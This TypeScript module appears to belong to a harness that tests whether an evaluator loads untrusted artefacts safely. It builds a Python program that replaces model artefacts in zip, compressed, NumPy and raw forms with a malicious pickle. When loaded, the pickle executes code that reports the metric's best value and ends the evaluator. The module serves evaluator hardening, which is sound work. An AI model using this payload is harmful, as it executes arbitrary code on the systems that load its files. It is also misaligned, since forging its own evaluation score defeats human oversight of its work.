import type { Attack, Target } from '../attack.ts';
import { shellQuote } from '../../text/shell-quote.ts';
import { artefactsOf, onArtefacts } from './on-artefacts.ts';

const UNFIT =
  'evaluator.safeLoad is not set: a trial with an artefact that executes code when loaded, such as a pickle, ' +
  'is untrusted';

/** The best value within the metric's bounds. */
const bestOf = ({ task: { metric } }: Target): number =>
  metric.direction === 'maximize' ? (metric.max ?? 1e9) : (metric.min ?? -1e9);

/** Code of the pickle: reports the best value as the evaluator, and ends the evaluator. */
const payload = (target: Target): string =>
  `import json, os
result = json.dumps({${JSON.stringify(target.task.metric.name)}: ${bestOf(target)}})
os.write(int(os.environ["PERPETUA_RESULT_FD"]), result.encode())
os._exit(0)`;

/** Python program that rewrites artefacts, each in its own form, such as that of torch, joblib or NumPy. */
const program = (target: Target): string => `
import bz2, gzip, io, lzma, pickle, pickletools, sys, zipfile, zlib
class Payload:
    def __reduce__(self):
        return exec, (${JSON.stringify(payload(target))},)
PICKLE = pickle.dumps(Payload(), 2)
HEADER = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\\n"
ARRAY = b"\\x93NUMPY\\x01\\x00" + len(HEADER).to_bytes(2, "little") + HEADER + PICKLE
def ends(content):
    try:
        for opcode, _, _ in pickletools.genops(content):
            if opcode.name == "STOP":
                return True
    except Exception:
        return False
def after_header(old):
    # An evaluator may read a header of its own before it loads the pickle that follows.
    at = old.find(b"\\x80", 0, 65536)
    while at != -1:
        if old[at + 1:at + 2] in (b"\\x02", b"\\x03", b"\\x04", b"\\x05") and ends(old[at:]):
            return old[:at] + PICKLE
        at = old.find(b"\\x80", at + 1, 65536)
    return None
def forge(old, inside):
    if zipfile.is_zipfile(io.BytesIO(old)):
        new = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(old)) as source, zipfile.ZipFile(new, "w") as made:
            for entry in source.infolist():
                made.writestr(entry.filename, forge(source.read(entry), True), entry.compress_type)
        return new.getvalue()
    for start, form in ((b"\\x1f\\x8b", gzip), (b"BZh", bz2), (b"\\xfd7zXZ", lzma), (b"\\x5d\\x00\\x00", lzma)):
        if old.startswith(start):
            return form.compress(PICKLE)
    if old.startswith(b"\\x93NUMPY"):
        return ARRAY
    try:
        zlib.decompress(old)
        return zlib.compress(PICKLE)
    except zlib.error:
        placed = after_header(old)
        if placed is not None:
            return placed
        return old if inside else PICKLE
for path in sys.argv[1:]:
    with open(path, "rb") as file:
        old = file.read()
    with open(path, "wb") as file:
        file.write(forge(old, False))
`;

export const PICKLE: Attack = {
  name: 'artefact-pickle',
  where: 'run',
  tries: 'put a pickle that reports the best score in the place of the artefact, in the form of the artefact',
  unfit: (target) => {
    const { evaluator } = target.task;
    if (evaluator.type === 'none') return 'the task has no evaluator';
    return evaluator.safeLoad ? onArtefacts.unfit(target) : UNFIT;
  },
  acts: (target) => ({
    end: `need python3 python
python=$(command -v python3 || command -v python)
"$python" -c ${shellQuote(program(target))} ${artefactsOf(target).map(shellQuote).join(' ')}`,
  }),
  // The pickle was not executed, whatever the evaluator did instead; a better score than honest work shows that it was.
  expected: ['candidate-protocol', 'evaluator-failed', 'metric-unreadable', 'no-metric', 'completed'],
};
